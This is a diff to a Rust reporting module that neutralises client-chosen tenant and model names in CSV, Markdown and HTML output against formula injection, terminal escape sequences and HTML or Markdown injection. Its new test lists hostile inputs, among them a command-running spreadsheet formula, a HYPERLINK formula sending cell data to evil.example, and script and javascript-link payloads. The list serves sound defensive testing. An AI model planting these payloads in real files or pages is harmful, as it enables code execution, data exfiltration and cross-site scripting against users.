@@ -475,12 +475,47 @@ water_actual_ml_low,water_actual_ml_central,water_actual_ml_high,\
 sci_gco2e_per_request_low,sci_gco2e_per_request_central,sci_gco2e_per_request_high,\
 measured_requests,unknown_model_requests,unpriced_requests,settings_hashes,method_version,sources";
 
+/// A string a client chose (a tenant, a model) as report text: control characters become spaces,
+/// so an ESC or BEL sequence cannot drive the terminal that shows a report, nor a CR or LF break
+/// a row (and words a line break parted stay apart).
+pub(crate) fn plain_text(s: &str) -> String {
+    s.chars().map(|c| if c.is_control() { ' ' } else { c }).collect()
+}
+
+/// A CSV cell. One that starts like a formula (`=`, `+`, `-`, `@`, tab, CR) gets a leading `'`,
+/// so a spreadsheet shows it as text instead of running it (OWASP's advice on CSV injection).
 fn csv_field(s: &str) -> String {
+    let s = plain_text(s);
+    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{s}")
+    } else {
+        s
+    };
     if s.contains([',', '"', '\n']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_string()
+        s
     }
+}
+
+/// A string a client chose as Markdown text: no control characters, HTML's `<`, `>` and `&` as
+/// entities (Markdown viewers render raw HTML), and Markdown's own marks escaped so a name cannot
+/// make a link, an image or a new table cell.
+fn markdown_text(s: &str) -> String {
+    let mut out = String::with_capacity(s.len());
+    for c in plain_text(s).chars() {
+        match c {
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '&' => out.push_str("&amp;"),
+            '\\' | '`' | '*' | '_' | '[' | ']' | '(' | ')' | '|' | '#' | '!' | '~' => {
+                out.push('\\');
+                out.push(c);
+            }
+            c => out.push(c),
+        }
+    }
+    out
 }
 
 fn csv_line(key: &str, t: &Totals, method_and_sources: Option<(&str, &str)>) -> String {
@@ -719,7 +754,7 @@ pub fn to_markdown(report: &Report) -> String {
         let key = if g.key.is_empty() { "(none)" } else { g.key.as_str() };
         out.push_str(&format!(
             "| {} | {} | {} | {:.1}% | {} | {} | {} |\n",
-            key.replace('|', "\\|"),
+            markdown_text(key),
             s.requests,
             s.by_route.search,
             s.llm_avoided_share * 100.0,
@@ -997,6 +1032,44 @@ mod tests {
             }
         }
         fields
+    }
+
+    /// L7 (attack review 2026-12-06): tenants and models are client-chosen, and reached the CSV as
+    /// formulas, the Markdown as raw HTML, and every format with raw ESC and BEL bytes.
+    #[test]
+    fn client_chosen_names_are_neutralised_in_csv_markdown_and_html() {
+        let hostile = [
+            "=cmd|' /C calc'!A0",
+            "@SUM(1+1)",
+            "+1",
+            "-2",
+            "\tx",
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+            "\u{1b}]0;PWNED\u{7}\u{1b}[2J",
+            "<script>alert(1)</script>",
+            "<img/src=x/onerror=alert(1)>",
+            "[x](javascript:alert(1))",
+        ];
+        let rows: Vec<LedgerRecord> = hostile
+            .iter()
+            .enumerate()
+            .map(|(i, t)| row(i64::try_from(i).unwrap(), "search", false, 0.1, t))
+            .collect();
+        let r = build(&rows, GroupBy::Tenant, None, None);
+        let csv = to_csv(&r);
+        for line in csv.lines().skip(1) {
+            let key = &csv_fields(line)[0];
+            assert!(!key.starts_with(['=', '+', '-', '@', '\t', '\r']), "{key:?}");
+        }
+        assert!(csv.contains("'=cmd|' /C calc'!A0"), "the text is kept, as text: {csv}");
+        let md = to_markdown(&r);
+        let html = html::render(&rows, &[], None, None, 0, html::Page::Report, Some(GroupBy::Tenant));
+        for (format, text) in [("csv", &csv), ("md", &md), ("html", &html)] {
+            assert!(!text.contains(['\u{1b}', '\u{7}']), "{format}: no ESC or BEL");
+        }
+        assert!(!md.contains("<script>") && !md.contains("<img"), "{md}");
+        assert!(md.contains("&lt;script&gt;"));
+        assert!(!md.contains("[x](javascript"), "no link made: {md}");
     }
 
     #[test]
